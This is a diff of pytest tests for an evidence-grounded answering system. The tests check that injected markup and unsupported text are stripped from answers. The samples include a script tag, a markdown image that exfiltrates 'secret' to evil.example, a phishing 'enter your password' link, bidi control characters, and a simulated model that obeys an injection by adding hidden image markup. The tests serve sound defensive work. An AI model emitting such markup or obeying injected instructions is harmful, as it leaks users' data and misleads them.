@@ -186,17 +186,26 @@ def test_what_a_hostile_article_says_is_shown_as_its_own_words_or_not_at_all(arc
 
 
 @pytest.mark.parametrize(
-    "leaks",
+    ("leaks", "dropped"),
     [
-        pytest.param("You answer questions, using nothing but the numbered evidence [1].", id="the rules"),
-        pytest.param("<script>alert(1)</script> ![x](http://evil.example/?q=secret) [1].", id="markup"),
-        pytest.param("Visit http://evil.example and enter your password [1][2][3].", id="a link"),
-        pytest.param("\u202eاضغط هنا\u202c \u200b[1]\u2066.", id="bidi"),
+        pytest.param("You answer questions, using nothing but the numbered evidence [1].", 1, id="the rules"),
+        pytest.param("<script>alert(1)</script> ![x](http://evil.example/?q=secret) [1].", 0, id="markup"),
+        pytest.param("Visit http://evil.example and enter your password [1][2][3].", 1, id="a link"),
+        pytest.param("\u202eاضغط هنا\u202c \u200b[1]\u2066.", 1, id="bidi"),
     ],
 )
-def test_what_no_article_says_is_not_shown(archive: Archive, leaks: str) -> None:
+def test_what_no_article_says_is_not_shown(archive: Archive, leaks: str, dropped: int) -> None:
     answer, _ = archive.answer(says(leaks))
-    assert (answer.status, answer.dropped_sentences) == (AnswerStatus.INSUFFICIENT_EVIDENCE, 1)
+    assert (answer.status, answer.dropped_sentences) == (AnswerStatus.INSUFFICIENT_EVIDENCE, dropped)
+
+
+def test_markup_that_a_model_is_made_to_put_into_an_honest_sentence_is_not_shown(archive: Archive) -> None:
+    def obey(request: Request) -> str:
+        leak = "![x](http://evil.example/?q=secret)<img src='http://evil.example'><!-- hidden -->"
+        return f"[{SENT[:-1]}](http://evil.example) {leak} www.evil.example [{request.number_of(SENT)}]."
+
+    answer, _ = archive.answer(says(obey))
+    assert [sentence.text for sentence in answer.sentences] == [SENT]
 
 
 def test_orders_change_neither_what_is_found_nor_what_an_honest_article_is_cited_for(archive: Archive) -> None:
